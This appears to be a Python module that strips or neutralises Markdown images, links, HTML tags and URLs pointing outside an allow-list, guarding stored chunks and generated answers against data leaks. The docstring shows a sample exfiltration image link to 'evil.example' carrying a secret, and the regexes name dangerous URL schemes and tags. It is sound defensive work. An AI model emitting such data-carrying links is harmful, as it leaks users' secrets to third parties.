"""Links and images: keep those to allowed hosts, neutralise every other one.

A Markdown image whose URL carries data (``![](https://evil.example/p.png?q=<secret>)``) leaks
that data the moment a client renders it, so answers may only link to hosts on an allow-list.
The same function cleans documents at ingestion (so no stored chunk carries such a link) and
answers on the way out.

Example::

    >>> clean("See ![x](https://evil.example/a.png?d=1) and [docs](https://docs.python.org/3/).", ["python.org"]).text
    'See [image removed] and [docs](https://docs.python.org/3/).'
    >>> host_allowed("python.org.evil.example", ["python.org"])
    False
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from urllib.parse import urlsplit

__all__ = ["Cleaned", "clean", "host_allowed", "find_urls", "disallowed_urls"]

_MD_IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)")
_MD_LINK = re.compile(r"\[([^\]\n]{0,500})\]\(\s*<?([^)\s>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)")
_REF_DEF = re.compile(r"^\s{0,3}\[[^\]\n]+\]:\s*<?(\S+?)>?(?:\s+.*)?$", re.M)
_HTML_TAG = re.compile(r"<\s*(img|a|iframe|script|object|embed|link|meta|form|svg|video|audio|source)\b[^>]*>(?:\s*</\s*\1\s*>)?", re.I)
_URL = re.compile(r"(?i)\b(?:https?|ftp|wss?)://[^\s<>\"'`)\]]+|(?<![\w@/.])www\.[a-z0-9-]+(?:\.[a-z0-9-]+)+[^\s<>\"'`)\]]*|(?<![\w:])//[a-z0-9-]+(?:\.[a-z0-9-]+)+/[^\s<>\"'`)\]]*")
_SCHEME = re.compile(r"(?i)\b(?:javascript|data|vbscript|file):[^\s<>\"'`)\]]+")


@dataclass(frozen=True)
class Cleaned:
    text: str
    removed: list[str] = field(default_factory=list)


def host_allowed(host: str | None, allowed: list[str]) -> bool:
    """True when ``host`` is an allowed host or a subdomain of one."""
    if not host:
        return False
    host = host.lower().rstrip(".")
    return any(host == a.lower() or host.endswith("." + a.lower()) for a in allowed)


def _host(url: str) -> str | None:
    url = url.strip()
    if url.lower().startswith("www."):
        url = "http://" + url
    elif url.startswith("//"):
        url = "http:" + url
    try:
        parts = urlsplit(url)
        if parts.scheme.lower() not in ("http", "https", "ftp", "ws", "wss"):
            return None
        return parts.hostname
    except ValueError:
        return None


def _url_ok(url: str, allowed: list[str]) -> bool:
    if not url or url.startswith("#"):
        return True
    if re.match(r"(?i)^(https?|ftp|wss?):|^//|^www\.", url.strip()):
        return host_allowed(_host(url), allowed)
    if re.match(r"(?i)^[a-z][a-z0-9+.-]*:", url.strip()):
        return False  # javascript:, data:, mailto: and any other scheme
    return True  # a relative link stays inside the page that shows it


def find_urls(text: str) -> list[str]:
    """Every URL-like string in ``text`` (Markdown targets, HTML attributes, bare URLs, schemes)."""
    found = [m.group(2) for m in _MD_IMAGE.finditer(text)] + [m.group(2) for m in _MD_LINK.finditer(text)]
    found += [m.group(1) for m in _REF_DEF.finditer(text)]
    found += re.findall(r"(?i)(?:src|href|data|action)\s*=\s*[\"']?([^\"'\s>]+)", text)
    found += _URL.findall(text) + _SCHEME.findall(text)
    return [u for u in found if u]


def disallowed_urls(text: str, allowed: list[str]) -> list[str]:
    """The URLs of ``text`` that point outside the allow-list (what a leak check looks for)."""
    return [u for u in find_urls(text) if not _url_ok(u, allowed)]


def clean(text: str, allowed: list[str]) -> Cleaned:
    """``text`` with every image, link, HTML tag or URL to a host outside ``allowed`` neutralised."""
    removed: list[str] = []

    def image(m: re.Match[str]) -> str:
        if _url_ok(m.group(2), allowed) and m.group(2):
            return m.group(0)
        removed.append(m.group(2))
        return "[image removed]"

    def link(m: re.Match[str]) -> str:
        if _url_ok(m.group(2), allowed):
            return m.group(0)
        removed.append(m.group(2))
        return m.group(1)

    def ref_def(m: re.Match[str]) -> str:
        if _url_ok(m.group(1), allowed):
            return m.group(0)
        removed.append(m.group(1))
        return ""

    def tag(m: re.Match[str]) -> str:
        urls = re.findall(r"(?i)(?:src|href|data|action)\s*=\s*[\"']?([^\"'\s>]+)", m.group(0))
        if m.group(1).lower() in ("a", "img") and urls and all(_url_ok(u, allowed) for u in urls):
            return m.group(0)
        removed.append(m.group(0))
        return "[html removed]"

    def bare(m: re.Match[str]) -> str:
        url = m.group(0)
        if _url_ok(url, allowed):
            return url
        removed.append(url)
        return "[link removed]"

    text = _MD_IMAGE.sub(image, text)
    text = _MD_LINK.sub(link, text)
    text = _REF_DEF.sub(ref_def, text)
    text = _HTML_TAG.sub(tag, text)
    # bare URLs outside Markdown targets that survived (allowed ones are kept verbatim)
    text = _URL.sub(bare, text)
    text = _SCHEME.sub(bare, text)
    return Cleaned(text, removed)
